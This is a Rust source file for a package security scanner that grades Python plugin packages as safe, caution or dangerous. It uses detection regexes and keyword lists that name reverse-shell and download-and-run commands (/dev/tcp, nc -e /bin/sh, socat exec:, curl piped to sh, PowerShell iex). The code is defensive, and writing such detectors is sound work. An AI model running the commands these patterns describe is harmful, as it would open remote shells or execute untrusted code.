//! VAL-16 `security-scan`: patterns that make a package dangerous to install, with a verdict.
//!
//! Levels: `critical` (reverse shells, decode-and-exec, download-and-exec, symlinks escaping the
//! package), `high` (`eval`/`exec` of dynamic strings, `curl … | sh`, native executables),
//! `medium` (restricted-builtins `eval`, shell commands built at runtime, binary or compiled
//! files, opaque encoded blobs, oversized trees: > 400 files, > 10 MB, or a file > 1 MB).
//! Verdict: `dangerous` if anything is critical or high, `caution` if anything is medium,
//! else `safe`. Only `dangerous` fails validation.

use aho_corasick::AhoCorasick;
use std::io::Read;
use std::sync::LazyLock;

use super::syntax::Node;
use crate::located::Pos;
use crate::pkgfs::{Kind, PackageRoot, ReadError};
use regex_automata::Input;
use regex_automata::meta::Regex as SpanRegex;

use super::eval::{Evaluator, Val};
use super::scope::ModId;
use super::source::{Index, PyModule};

/// How bad a security finding is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// Worth knowing.
    Medium,
    /// Makes the package dangerous.
    High,
    /// Makes the package dangerous; almost certainly malicious.
    Critical,
}

impl Level {
    /// `medium`, `high` or `critical`.
    pub fn as_str(self) -> &'static str {
        match self {
            Level::Medium => "medium",
            Level::High => "high",
            Level::Critical => "critical",
        }
    }
}

/// The overall verdict of the scan.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Nothing found.
    Safe,
    /// Medium findings only.
    Caution,
    /// A high or critical finding.
    Dangerous,
}

impl Verdict {
    /// `safe`, `caution` or `dangerous`.
    pub fn as_str(self) -> &'static str {
        match self {
            Verdict::Safe => "safe",
            Verdict::Caution => "caution",
            Verdict::Dangerous => "dangerous",
        }
    }

    /// The verdict for a set of findings.
    pub fn of(findings: &[SecurityFinding]) -> Verdict {
        match findings.iter().map(|f| f.level).max() {
            Some(Level::Critical | Level::High) => Verdict::Dangerous,
            Some(Level::Medium) => Verdict::Caution,
            None => Verdict::Safe,
        }
    }
}

/// One security finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SecurityFinding {
    /// Severity.
    pub level: Level,
    /// Short rule name (`reverse-shell`, `dynamic-exec`, …).
    pub rule: &'static str,
    /// What was found.
    pub message: String,
    /// File (`.` for the package as a whole).
    pub file: String,
    /// Position.
    pub pos: Pos,
    /// The offending text, shortened.
    pub snippet: String,
}

impl SecurityFinding {
    /// The finding's stable id, `<rule>@<file>:<line>` (`pipe-to-shell@setup.sh:12`): what
    /// `install --accept-finding` names to accept it for one plugin.
    pub fn id(&self) -> String {
        format!("{}@{}:{}", self.rule, self.file, self.pos.line)
    }

    /// Whether `install`/`update` need an explicit acceptance of it: it makes the verdict
    /// `dangerous`, or it is code the analysis could not read (a module too large or beyond
    /// the file cap, a file the walk could not examine) — not known to be safe either.
    pub fn blocks(&self) -> bool {
        self.level >= Level::High || matches!(self.rule, "unanalysed-source" | "unexamined")
    }
}

/// Limits for the oversized-tree finding.
pub const MAX_FILES: usize = 400;
/// Total size limit (10 MB).
pub const MAX_TOTAL_BYTES: u64 = 10 * 1000 * 1000;
/// Per-file size limit (1 MB).
pub const MAX_FILE_BYTES: u64 = 1000 * 1000;

// The two byte-level patterns are searched with regex-automata's `meta::Regex`, which can
// search a span of a haystack while its `\b` sees the characters around the span: a window
// of a long line is searched up to its end with the next character of the line as context.
const REVERSE_SHELL_PATTERN: &str = r"(?i)(/dev/tcp/[^\s/]+/\d+|bash\s+-i\s+>&|\bnc(at)?\s+(-\w+\s+)*-e\s+/bin/(ba|z|da)?sh|socat\s+[^\n]*exec:|mkfifo\s+/tmp/\S+[^\n]*\bnc\b|\bsh\s+-i\s+[<>]&)";
const PIPE_TO_SHELL_PATTERN: &str = r"(?i)(\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z|da)?sh\b|\b(iex|invoke-expression)\b\s*\(?\s*(\(?\s*new-object\s+net\.webclient|iwr|invoke-webrequest|irm\b))";
static REVERSE_SHELL: LazyLock<SpanRegex> =
    LazyLock::new(|| SpanRegex::new(REVERSE_SHELL_PATTERN).expect("valid regex"));
static PIPE_TO_SHELL: LazyLock<SpanRegex> =
    LazyLock::new(|| SpanRegex::new(PIPE_TO_SHELL_PATTERN).expect("valid regex"));

/// Each pattern without its word boundaries (`\b`), asked first whether a whole text can
/// match: it matches wherever the pattern does (an assertion removed only allows more), so
/// where it finds nothing the pattern finds nothing either.
///
/// Why: a Unicode `\b` keeps regex-automata's lazy DFA off any text with a non-ASCII byte
/// (most READMEs and many modules have one), and the search falls back to an engine an
/// order of magnitude slower per byte. Without `\b`, the same search stays on the DFA: over
/// the 176 texts of the real-plugin corpus that hold a [`NEEDED`] string, 97 M of the
/// run's 2.6 G instructions (callgrind) were the patterns' own search.
static LOOSE: LazyLock<[regex::Regex; 2]> = LazyLock::new(|| {
    [REVERSE_SHELL_PATTERN, PIPE_TO_SHELL_PATTERN]
        .map(|p| regex::Regex::new(&without_word_boundaries(p)).expect("valid regex"))
});

/// `pattern` with every `\b` dropped (the patterns above escape no backslash, so each `\b`
/// is a word boundary).
fn without_word_boundaries(pattern: &str) -> String {
    pattern.replace(r"\b", "")
}

/// Strings, in ASCII lower case, one of which every match of either byte-level pattern
/// contains, whatever its case: `/dev/tcp/`; the `>&` or `<&` of `bash -i >&` and `sh -i <&`;
/// the `/bin/` of `nc -e /bin/sh`; the `exec:` of `socat … exec:`; the `fifo` of
/// `mkfifo … nc`; `curl` or `wget` before a pipe to a shell; PowerShell's `iex` or the
/// `e-expre` of `invoke-expression`.
///
/// None holds an `s` or a `k`: the patterns' `(?i)` folds those to `ſ` and the Kelvin sign
/// too, which an ASCII lower-casing would not see (no other letter here folds to anything
/// outside ASCII; a test checks every character). Most files contain none of these, and
/// searching for them costs a tenth of the patterns' own search, whose prefilter
/// stops at every `sh` and `nc` of ordinary text ([`may_match`]).
const NEEDED: &[&str] = &[
    "/dev/tcp/",
    ">&",
    "<&",
    "/bin/",
    "exec:",
    "fifo",
    "curl",
    "wget",
    "iex",
    "e-expre",
];
/// Leftmost-first, which lets the automaton search with its SIMD prefilter (Teddy); the
/// standard match kind of `AhoCorasick::new` was seen scanning without it in a profile.
static NEEDED_SEARCH: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .match_kind(aho_corasick::MatchKind::LeftmostFirst)
        .build(NEEDED)
        .expect("literal words")
});

/// How many of [`NEEDED`], from its start, are the reverse shell's; the rest are the pipe to a
/// shell's.
const REVERSE_SHELL_NEEDED: usize = 6;

/// [`NEEDED`] in two: the strings one of which every match of [`REVERSE_SHELL`] contains, and
/// those of [`PIPE_TO_SHELL`]. A text holding only a `curl` is not searched for a reverse
/// shell, whose search stops at every `sh` and `nc` (most of the patterns' cost, callgrind).
static NEEDED_EACH: LazyLock<[AhoCorasick; 2]> = LazyLock::new(|| {
    [
        &NEEDED[..REVERSE_SHELL_NEEDED],
        &NEEDED[REVERSE_SHELL_NEEDED..],
    ]
    .map(|words| {
        AhoCorasick::builder()
            .match_kind(aho_corasick::MatchKind::LeftmostFirst)
            .build(words)
            .expect("literal words")
    })
});

/// Whether `text` contains one of the [`NEEDED`] strings in any ASCII case: where it does
/// not, neither byte-level pattern can match anywhere in it.
fn may_match(text: &[u8]) -> bool {
    contains_lowercase(&NEEDED_SEARCH, text)
}

/// Whether `text`, lower-cased in ASCII, contains one of `search`'s strings (each at most 9
/// bytes). Lower-cased a piece at a time (pieces overlapping by the longest string but one,
/// so none is split unseen), as the packed searcher that makes this fast has no
/// case-insensitive mode.
fn contains_lowercase(search: &AhoCorasick, text: &[u8]) -> bool {
    const PIECE: usize = 16 << 10;
    const KEEP: usize = 8; // the longest of NEEDED, `/dev/tcp/`, less one
    // Sized to the text: a fixed piece-sized buffer was zeroed on every call, 16 KiB for
    // a text of a few hundred bytes.
    let mut lower: Vec<u8> = Vec::with_capacity(text.len().min(PIECE + KEEP));
    let mut start = 0;
    while start < text.len() {
        let from = start.saturating_sub(KEEP);
        let to = (start + PIECE).min(text.len());
        lower.clear();
        lower.extend_from_slice(&text[from..to]);
        lower.make_ascii_lowercase();
        if search.is_match(&lower) {
            return true;
        }
        start = to;
    }
    false
}

/// A string of at least 2000 characters, all base64 alphabet or whitespace (what the
/// pattern `^[A-Za-z0-9+/=\s]{2000,}$` says; checked by hand because that regex compiles to
/// 2000 copies of its class — 4 % of a cold `validate` of the Hermes corpus).
fn is_base64_blob(value: &str) -> bool {
    value
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=') || c.is_whitespace())
        && value.chars().nth(1999).is_some()
}

/// Words a string must contain to be worth matching against the shell patterns.
const SUSPICIOUS: &[&str] = &[
    "/dev/tcp", "bash", "nc ", "ncat", "socat", "mkfifo", "curl", "wget", "iex", "nvoke-", "sh -i",
];
/// [`SUSPICIOUS`] as one automaton: each string literal is searched once, not once per word.
/// Leftmost-first for its prefilter, as [`NEEDED_SEARCH`]: only whether a word is there is
/// asked, which the match kind does not change.
static SUSPICIOUS_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .match_kind(aho_corasick::MatchKind::LeftmostFirst)
        .build(SUSPICIOUS)
        .expect("literal words")
});
const DECODERS: &[&str] = &[
    "b64decode",
    "b85decode",
    "a85decode",
    "b32decode",
    "decompress",
    "unhexlify",
    "fromhex",
    "codecs.decode",
    "marshal.loads",
    "rot13",
    "zlib",
];
const FETCHERS: &[&str] = &[
    "urlopen",
    "requests.",
    "httpx.",
    "urllib",
    "aiohttp",
    "urlretrieve",
    "socket",
];
const MEDIA: &[&str] = &[
    "png", "jpg", "jpeg", "gif", "webp", "ico", "bmp", "tif", "tiff", "pdf", "woff", "woff2",
    "ttf", "otf", "eot", "mp3", "wav", "ogg", "mp4", "webm", "avif", "heic",
];
const ARCHIVES: &[&str] = &[
    "zip", "tar", "gz", "tgz", "bz2", "xz", "7z", "whl", "jar", "rar",
];

/// Scans the Python sources (`indexes` are the modules' [`Index`]es) and the package tree.
pub fn scan<'t>(
    root: &PackageRoot,
    ev: &Evaluator<'_, 't>,
    indexes: &[Index<'t>],
) -> Vec<SecurityFinding> {
    let mut out = Vec::new();
    for (m, index) in indexes.iter().enumerate() {
        scan_python(ev, m, &ev.set.modules[m], index, &mut out);
    }
    // Parsed files were read whole by the analysis above; unreached ones were matched
    // against the byte-level patterns whole, without a match.
    let read: std::collections::HashMap<&str, (&str, usize)> = ev
        .set
        .heads()
        .map(|(rel, head, len)| (rel, (head, len)))
        .collect();
    scan_tree(root, &read, &mut out);
    out.sort_by(|a, b| (a.file.as_str(), a.pos).cmp(&(b.file.as_str(), b.pos)));
    out
}

fn snippet_of(text: &str) -> String {
    crate::located::truncate_chars(text.lines().next().unwrap_or("").trim(), 100)
}

fn push_py(
    out: &mut Vec<SecurityFinding>,
    module: &PyModule,
    node: Node<'_>,
    level: Level,
    rule: &'static str,
    message: String,
) {
    out.push(SecurityFinding {
        level,
        rule,
        message,
        file: module.rel.clone(),
        pos: module.pos(node),
        snippet: snippet_of(module.text_of(node)),
    });
}

fn scan_python<'t>(
    ev: &Evaluator<'_, 't>,
    m: ModId,
    module: &'t PyModule,
    index: &Index<'t>,
    out: &mut Vec<SecurityFinding>,
) {
    let uses_socket = module.text.contains("socket");
    for (node, _) in &index.calls {
        let func = node
            .child_by_field_name("function")
            .map(|f| module.text_of(f))
            .unwrap_or("");
        let last = func.rsplit('.').next().unwrap_or(func);
        if matches!(
            last,
            "eval"
                | "exec"
                | "compile"
                | "system"
                | "popen"
                | "run"
                | "call"
                | "Popen"
                | "check_output"
                | "check_call"
                | "spawn"
                | "dup2"
                | "__import__"
                | "import_module"
        ) {
            check_call(ev, m, module, *node, uses_socket, out);
        }
    }
    for (node, is_prose) in &index.strings {
        let raw = module.text_of(*node);
        if *is_prose || !(raw.len() >= 2000 || SUSPICIOUS_WORDS.is_match(raw)) {
            continue;
        }
        if let Val::Str(value) = ev.eval(m, *node, None) {
            check_text(&value, out, |level, rule, message| SecurityFinding {
                level,
                rule,
                message,
                file: module.rel.clone(),
                pos: module.pos(*node),
                snippet: snippet_of(module.text_of(*node)),
            });
            if value.len() >= 2000 && is_base64_blob(&value) {
                push_py(
                    out,
                    module,
                    *node,
                    Level::Medium,
                    "encoded-blob",
                    format!(
                        "an opaque encoded blob of {} characters cannot be reviewed",
                        value.len()
                    ),
                );
            }
        }
    }
}

fn check_text(
    text: &str,
    out: &mut Vec<SecurityFinding>,
    make: impl Fn(Level, &'static str, String) -> SecurityFinding,
) {
    check_text_in(text, 0, text.len(), out, make);
}

/// The rules of the byte-level patterns that match somewhere in `text` (both of them, where
/// [`check_text`] reports the worse one): the reference the windowed scan is fuzzed against.
pub fn rules_matching(text: &str) -> Vec<&'static str> {
    let mut rules = Vec::new();
    if REVERSE_SHELL.is_match(text) {
        rules.push("reverse-shell");
    }
    if PIPE_TO_SHELL.is_match(text) {
        rules.push("pipe-to-shell");
    }
    rules
}

/// Whether the byte-level scan of a file of this text ([`scan_bytes`]) can find anything.
///
/// A file no longer than one window has no line split into windows, so each line is
/// searched with the same context the whole text gives it: where neither pattern matches
/// the whole text, no line can match (a pass per pattern instead of one per line; the two
/// joined in one regex were measured 2.5× slower). A longer file is
/// scanned as [`scan_bytes`] does. Either way a text without a [`NEEDED`] string is not
/// searched at all.
pub fn byte_patterns_match(text: &str) -> bool {
    if !may_match(text.as_bytes()) {
        false
    } else if text.len() <= WINDOW {
        let [reverse, pipe] = &*NEEDED_EACH;
        (contains_lowercase(reverse, text.as_bytes())
            && LOOSE[0].is_match(text)
            && REVERSE_SHELL.is_match(text))
            || (contains_lowercase(pipe, text.as_bytes())
                && LOOSE[1].is_match(text)
                && PIPE_TO_SHELL.is_match(text))
    } else {
        !byte_patterns(text.as_bytes(), "", WINDOW, OVERLAP).is_empty()
    }
}

/// [`check_text`] for matches within `text[start..end]`, the text around it being only
/// context (what precedes or follows a word decides a `\b`).
fn check_text_in(
    text: &str,
    start: usize,
    end: usize,
    out: &mut Vec<SecurityFinding>,
    make: impl Fn(Level, &'static str, String) -> SecurityFinding,
) {
    let span = || Input::new(text).span(start..end);
    let matched = |m: regex_automata::Match| text.get(m.range()).unwrap_or_default();
    if let Some(m) = REVERSE_SHELL.find(span()).map(matched) {
        out.push(make(
            Level::Critical,
            "reverse-shell",
            format!(
                "reverse shell pattern `{}`",
                crate::located::truncate_chars(m, 60)
            ),
        ));
    } else if let Some(m) = PIPE_TO_SHELL.find(span()).map(matched) {
        out.push(make(
            Level::High,
            "pipe-to-shell",
            format!(
                "downloads a script and pipes it to a shell: `{}`",
                crate::located::truncate_chars(m, 60)
            ),
        ));
    }
}

fn check_call<'t>(
    ev: &Evaluator<'_, 't>,
    m: ModId,
    module: &'t PyModule,
    call: Node<'t>,
    uses_socket: bool,
    out: &mut Vec<SecurityFinding>,
) {
    let (Some(func), Some(args)) = (
        call.child_by_field_name("function"),
        call.child_by_field_name("arguments"),
    ) else {
        return;
    };
    let positional: Vec<Node<'t>> = args
        .named_children()
        .filter(|a| !matches!(a.kind(), "keyword_argument" | "comment"))
        .collect();
    let keyword = |name: &str| {
        args.named_children()
            .filter(|a| a.kind() == "keyword_argument")
            .find(|a| {
                a.child_by_field_name("name")
                    .is_some_and(|n| module.text_of(n) == name)
            })
            .and_then(|a| a.child_by_field_name("value"))
    };
    let name = module.text_of(func);
    let shadowed = ev.scopes.modules[m].names.contains_key(name);
    if func.kind() == "identifier" && !shadowed && matches!(name, "eval" | "exec" | "compile") {
        check_dynamic_code(ev, m, module, call, name, &positional, out);
        return;
    }
    let imports_computed = |what: &str| {
        positional
            .first()
            .is_some_and(|a| !matches!(ev.eval(m, *a, None), Val::Str(_)))
            .then(|| format!("{what} of a name computed at runtime: what it loads is not analysed"))
    };
    if func.kind() == "identifier" && !shadowed && name == "__import__" {
        if let Some(message) = imports_computed("__import__()") {
            push_py(out, module, call, Level::Medium, "dynamic-code", message);
        }
        return;
    }
    let path = match ev.eval(m, func, None) {
        Val::External(p) => p,
        _ => return,
    };
    if path == "importlib.import_module" {
        if let Some(message) = imports_computed("importlib.import_module()") {
            push_py(out, module, call, Level::Medium, "dynamic-code", message);
        }
        return;
    }
    match path.as_str() {
        "os.system"
        | "os.popen"
        | "subprocess.run"
        | "subprocess.call"
        | "subprocess.Popen"
        | "subprocess.check_output"
        | "subprocess.check_call" => {
            let via_shell = path.starts_with("os.")
                || keyword("shell").is_some_and(|v| module.text_of(v) == "True");
            if via_shell
                && let Some(cmd) = positional.first()
                && !matches!(ev.eval(m, *cmd, None), Val::Str(_))
            {
                let how = if path.starts_with("os.") {
                    ""
                } else {
                    "shell=True"
                };
                push_py(
                    out,
                    module,
                    call,
                    Level::Medium,
                    "shell-command",
                    format!("{path}({how}) of a command built at runtime"),
                );
            }
        }
        "pty.spawn" if uses_socket => {
            push_py(
                out,
                module,
                call,
                Level::Critical,
                "reverse-shell",
                "pty.spawn() of a shell in a module that opens sockets".into(),
            );
        }
        "os.dup2" if uses_socket && module.text_of(args).contains("fileno()") => {
            push_py(
                out,
                module,
                call,
                Level::Critical,
                "reverse-shell",
                "os.dup2() of a socket onto standard streams".into(),
            );
        }
        _ => {}
    }
}

/// `eval`, `exec` or `compile` (the builtins): of a literal (not analysed), of code decoded or
/// downloaded at runtime, or of a dynamic string.
fn check_dynamic_code<'t>(
    ev: &Evaluator<'_, 't>,
    m: ModId,
    module: &'t PyModule,
    call: Node<'t>,
    name: &str,
    positional: &[Node<'t>],
    out: &mut Vec<SecurityFinding>,
) {
    let Some(source) = positional.first() else {
        return;
    };
    if matches!(ev.eval(m, *source, None), Val::Str(_)) {
        push_py(
            out,
            module,
            call,
            Level::Medium,
            "dynamic-code",
            format!("{name}() of a string literal: the code inside it is not analysed"),
        );
        return;
    }
    let source_text = module.text_of(*source);
    if DECODERS.iter().any(|d| source_text.contains(d)) {
        push_py(
            out,
            module,
            call,
            Level::Critical,
            "decode-and-exec",
            format!("{name}() runs code decoded at runtime"),
        );
    } else if FETCHERS.iter().any(|f| source_text.contains(f)) {
        push_py(
            out,
            module,
            call,
            Level::Critical,
            "download-and-exec",
            format!("{name}() runs code fetched at runtime"),
        );
    } else if name == "compile" {
        push_py(
            out,
            module,
            call,
            Level::Medium,
            "dynamic-exec",
            "compile() of a string built at runtime".into(),
        );
    } else if restricted_builtins(module, positional.get(1).copied()) {
        push_py(
            out,
            module,
            call,
            Level::Medium,
            "dynamic-exec",
            format!(
                "{name}() of a dynamic string with restricted builtins (still able to reach object internals)"
            ),
        );
    } else {
        push_py(
            out,
            module,
            call,
            Level::High,
            "dynamic-exec",
            format!("{name}() of a dynamic string runs arbitrary code"),
        );
    }
}

/// `eval(src, {"__builtins__": {}}, …)` or `{"__builtins__": None}`.
fn restricted_builtins(module: &PyModule, globals: Option<Node<'_>>) -> bool {
    let Some(globals) = globals else { return false };
    if globals.kind() != "dictionary" {
        return false;
    }
    globals.named_children().any(|pair| {
        pair.kind() == "pair"
            && pair
                .child_by_field_name("key")
                .is_some_and(|k| module.text_of(k).trim_matches(['"', '\'']) == "__builtins__")
            && pair
                .child_by_field_name("value")
                .is_some_and(|v| matches!(module.text_of(v).trim(), "{}" | "None" | "dict()"))
    })
}

/// Opens a package file for reading without blocking on a FIFO swapped in after the walk.
fn open_package_file(path: &std::path::Path) -> std::io::Result<std::fs::File> {
    use std::os::unix::fs::OpenOptionsExt;
    std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK | libc::O_NOFOLLOW | libc::O_CLOEXEC)
        .open(path)
}

/// How much of a line the byte-level patterns see at once, and how much two windows of an
/// over-long line overlap: memory stays bounded on a file that is one huge line, and a match
/// shorter than the overlap is never split.
const WINDOW: usize = 1 << 20;
/// `String::from_utf8_lossy`, checking valid UTF-8 (nearly every file) with `str::from_utf8`
/// first: its ASCII fast path is several times faster than the lossy decoder's loop (1 % of
/// a cold `validate` went to that loop).
fn lossy(bytes: &[u8]) -> std::borrow::Cow<'_, str> {
    match std::str::from_utf8(bytes) {
        Ok(text) => std::borrow::Cow::Borrowed(text),
        Err(_) => String::from_utf8_lossy(bytes),
    }
}

/// How much of a file's start the magic numbers and the binary test (a NUL) look at.
pub(super) const HEAD: usize = 8192;
const OVERLAP: usize = 16 << 10;

/// Runs the byte-level patterns (reverse shells, download-and-run) over every line of a file
/// the Python analysis did not parse — whatever its size or extension: a 2.5 MB `.py` of
/// padding, a shell script, a file of unknown type — in one linear pass. Comment-only lines
/// (`#`, not `#!`) are hints shown to people, not code, and are skipped. Stops after 200
/// findings in one file.
fn scan_bytes(file: impl Read, rel: &str, out: &mut Vec<SecurityFinding>) {
    scan_windowed(file, rel, WINDOW, OVERLAP, out);
}

/// The byte-level patterns over one file, seen in windows of `window` bytes overlapping by
/// `overlap` (`0 < overlap < window`): what `validate` runs with 1 MiB and 16 KiB, public for
/// the fuzz target that compares small windows with whole lines.
pub fn byte_patterns(
    file: impl Read,
    rel: &str,
    window: usize,
    overlap: usize,
) -> Vec<SecurityFinding> {
    assert!(
        0 < overlap && overlap < window,
        "overlap must be inside the window"
    );
    let mut out = Vec::new();
    scan_windowed(file, rel, window, overlap, &mut out);
    out
}

fn scan_windowed(
    file: impl Read,
    rel: &str,
    window_size: usize,
    overlap: usize,
    out: &mut Vec<SecurityFinding>,
) {
    let mut reader = std::io::BufReader::with_capacity(64 << 10, file);
    let mut window = Vec::new();
    let mut number: u32 = 0;
    let mut found = 0usize;
    loop {
        number = number.saturating_add(1);
        window.clear();
        let line_start = out.len();
        let mut first = true;
        let mut comment = false;
        loop {
            // At most `window_size` bytes at a time; an over-long line continues in windows
            // that keep the last `overlap` bytes of the one before. Their first character is
            // context only (it decides a `\b`); a match starting there, or one already
            // reported for this line, is not reported again.
            let room = if first {
                window_size
            } else {
                window_size - overlap
            };
            let read = match std::io::BufRead::read_until(
                &mut (&mut reader).take(room as u64),
                b'\n',
                &mut window,
            ) {
                Ok(n) => n,
                Err(_) => return,
            };
            if read == 0 && first {
                return; // end of file
            }
            let ended = window.last() == Some(&b'\n') || read < room;
            if !comment {
                let mut text = String::from_utf8_lossy(&window).into_owned();
                let end = text.len();
                if !ended {
                    // The line goes on: its next character is context for a `\b` at the
                    // window's end (`| sh` before `ell` is no pipe to a shell). A character
                    // split by the read buffer's end is taken as not a word character.
                    let next = std::io::BufRead::fill_buf(&mut reader).unwrap_or_default();
                    let next = &next[..next.len().min(4)];
                    text.extend(String::from_utf8_lossy(next).chars().next());
                }
                if first {
                    let trimmed = text.trim_start();
                    comment = trimmed.starts_with('#') && !trimmed.starts_with("#!");
                }
                if !comment {
                    let from = if first {
                        0
                    } else {
                        text.chars().next().map_or(0, char::len_utf8)
                    };
                    let mut here = Vec::new();
                    check_text_in(&text, from, end, &mut here, |level, rule, message| {
                        SecurityFinding {
                            level,
                            rule,
                            message,
                            file: rel.to_string(),
                            pos: Pos::new(number, 1),
                            snippet: snippet_of(&text[..end]),
                        }
                    });
                    for finding in here {
                        if !out[line_start..].iter().any(|f| f.rule == finding.rule) {
                            out.push(finding);
                            found += 1;
                        }
                    }
                }
            }
            first = false;
            if ended || found > 200 {
                break;
            }
            window.drain(..window.len() - overlap);
        }
        if found > 200 {
            return;
        }
    }
}

/// Whether `rel` is documentation for people: a README, changelog or other Markdown, reST or
/// text file, or a wheel's `*.dist-info/` metadata (whose `METADATA` carries the README as the
/// long description). Neither Hermes nor the agent reads these; a skill's files are not
/// documentation (the agent follows them), so nothing under a `skills` directory and no
/// `SKILL.md` is.
fn is_documentation(rel: &str) -> bool {
    let mut segments = rel.split('/');
    let name = segments
        .next_back()
        .unwrap_or_default()
        .to_ascii_lowercase();
    let dirs: Vec<&str> = rel.split('/').collect();
    let dirs = &dirs[..dirs.len().saturating_sub(1)];
    if name == "skill.md" || dirs.iter().any(|d| d.eq_ignore_ascii_case("skills")) {
        return false;
    }
    if dirs.first().is_some_and(|d| d.ends_with(".dist-info")) {
        return true;
    }
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or_default();
    matches!(ext, "md" | "markdown" | "rst" | "txt")
        || ["readme", "changelog", "changes", "history"]
            .iter()
            .any(|stem| name.starts_with(stem))
}

/// A `curl … | sh` in documentation tells a person how to install something by hand; the
/// plugin does not run it. Reported for the reviewer (medium), not a dangerous verdict that
/// blocks the install. A reverse shell stays critical wherever it is written.
fn demote_documentation(rel: &str, found: &mut [SecurityFinding]) {
    if !is_documentation(rel) {
        return;
    }
    for f in found.iter_mut().filter(|f| f.rule == "pipe-to-shell") {
        f.level = Level::Medium;
        f.message = format!(
            "{} (in documentation: an instruction to its reader, not code the plugin runs)",
            f.message
        );
    }
}

fn scan_tree(
    root: &PackageRoot,
    read: &std::collections::HashMap<&str, (&str, usize)>,
    out: &mut Vec<SecurityFinding>,
) {
    let tree_finding = |level, rule, message: String| SecurityFinding {
        level,
        rule,
        message,
        file: ".".into(),
        pos: Pos::START,
        snippet: String::new(),
    };
    let mut files = 0usize;
    let mut total: u64 = 0;
    let tree = root.tree();
    for u in &tree.unexamined {
        out.push(SecurityFinding {
            level: Level::Medium,
            rule: "unexamined",
            message: format!("`{}` was not scanned: {}", u.rel, u.reason),
            file: u.rel.clone(),
            pos: Pos::START,
            snippet: String::new(),
        });
    }
    for entry in &tree.entries {
        let rel = entry.rel.clone();
        let file_finding = |level, rule, message: String| SecurityFinding {
            level,
            rule,
            message,
            file: rel.clone(),
            pos: Pos::START,
            snippet: String::new(),
        };
        if entry.kind == Kind::Symlink {
            if let Err(ReadError::Escapes { target }) = root.resolve(&rel) {
                out.push(file_finding(
                    Level::Critical,
                    "symlink-escape",
                    format!("symlink escapes the package (to {target})"),
                ));
            }
            continue;
        }
        if entry.kind != Kind::File {
            continue;
        }
        files += 1;
        let size = entry.size;
        total += size;
        if size > MAX_FILE_BYTES {
            out.push(file_finding(
                Level::Medium,
                "oversized",
                format!("file of {} bytes (more than {MAX_FILE_BYTES})", size),
            ));
        }
        let ext = rel
            .rsplit_once('.')
            .map(|(_, e)| e.to_ascii_lowercase())
            .unwrap_or_default();
        // The head for the magic numbers; then every file the Python analysis did not parse
        // goes through the byte-level patterns (scan_bytes), whatever its size. A file read
        // whole already is not opened again, when its text is its bytes (the size says no BOM
        // was dropped from it).
        let in_memory = read
            .get(rel.as_str())
            .filter(|(_, len)| *len as u64 == size);
        let mut opened = None;
        let head: &[u8] = match in_memory {
            Some((head, _)) => head.as_bytes(),
            None => {
                let Ok(file) = open_package_file(&entry.path) else {
                    continue;
                };
                let (file, head) = opened.insert((file, Vec::with_capacity(HEAD)));
                let _ = file.take(HEAD as u64).read_to_end(head);
                head
            }
        };
        let executable_magic = head.starts_with(b"\x7fELF")
            || head.starts_with(&[0xfe, 0xed, 0xfa, 0xce])
            || head.starts_with(&[0xfe, 0xed, 0xfa, 0xcf])
            || head.starts_with(&[0xcf, 0xfa, 0xed, 0xfe])
            || head.starts_with(&[0xce, 0xfa, 0xed, 0xfe])
            || head.starts_with(&[0xca, 0xfe, 0xba, 0xbe])
            || (head.starts_with(b"MZ")
                && matches!(ext.as_str(), "exe" | "dll" | "sys" | "scr" | ""));
        if executable_magic || matches!(ext.as_str(), "so" | "dylib" | "dll" | "exe") {
            out.push(file_finding(
                Level::High,
                "native-executable",
                "native executable or library; its behaviour cannot be reviewed".into(),
            ));
            continue;
        }
        if ext == "pyc" || ext == "pyo" {
            out.push(file_finding(
                Level::Medium,
                "compiled-code",
                "compiled Python; ship the source instead (remove __pycache__)".into(),
            ));
            continue;
        }
        if head.contains(&0) {
            if ARCHIVES.contains(&ext.as_str()) {
                out.push(file_finding(
                    Level::Medium,
                    "archive",
                    "archive; its contents cannot be reviewed in place".into(),
                ));
                continue;
            } else if MEDIA.contains(&ext.as_str()) {
                continue;
            }
            out.push(file_finding(
                Level::Medium,
                "binary-file",
                "binary file of unknown type".into(),
            ));
        } else if MEDIA.contains(&ext.as_str()) {
            continue;
        }
        // Read whole already: parsed, or unreached without a match.
        let Some((mut file, head)) = opened.take() else {
            continue;
        };
        if read.contains_key(rel.as_str()) {
            continue;
        }
        if size <= WINDOW as u64 {
            // Most files match nothing: one pass over the whole text says so
            // (`byte_patterns_match`), and only a file that matches is scanned line by line.
            let mut bytes = head;
            if (&mut file)
                .take(WINDOW as u64 + 1 - bytes.len() as u64)
                .read_to_end(&mut bytes)
                .is_err()
            {
                continue;
            }
            if bytes.len() <= WINDOW && !byte_patterns_match(&lossy(&bytes)) {
                continue;
            }
            let before = out.len();
            scan_bytes(std::io::Cursor::new(bytes).chain(file), &rel, out);
            demote_documentation(&rel, &mut out[before..]);
            continue;
        }
        let before = out.len();
        scan_bytes(std::io::Cursor::new(head).chain(file), &rel, out);
        demote_documentation(&rel, &mut out[before..]);
    }
    if files > MAX_FILES {
        out.push(tree_finding(
            Level::Medium,
            "oversized",
            format!("the package has {files} files (more than {MAX_FILES})"),
        ));
    }
    if total > MAX_TOTAL_BYTES {
        out.push(tree_finding(
            Level::Medium,
            "oversized",
            format!("the package is {total} bytes (more than {MAX_TOTAL_BYTES})"),
        ));
    }
}

#[cfg(test)]
mod blob_tests {
    use super::is_base64_blob;

    #[test]
    fn the_blob_check_is_the_pattern() {
        let pattern = regex::Regex::new(r"^[A-Za-z0-9+/=\s]{2000,}$").unwrap();
        let long = "QUJD".repeat(500);
        let samples = [
            long.clone(),
            long[..1999].to_string(),
            format!("{long}\n"),
            format!("{}\u{a0}{}", &long[..1000], &long[..999]),
            format!("{}\u{2003}{}", &long[..1000], &long[..1000]),
            format!("{long}-"),
            format!("{long}\u{e9}"),
            format!("\u{3000}{long}"),
            "=".repeat(2000),
            " \n\t".repeat(700),
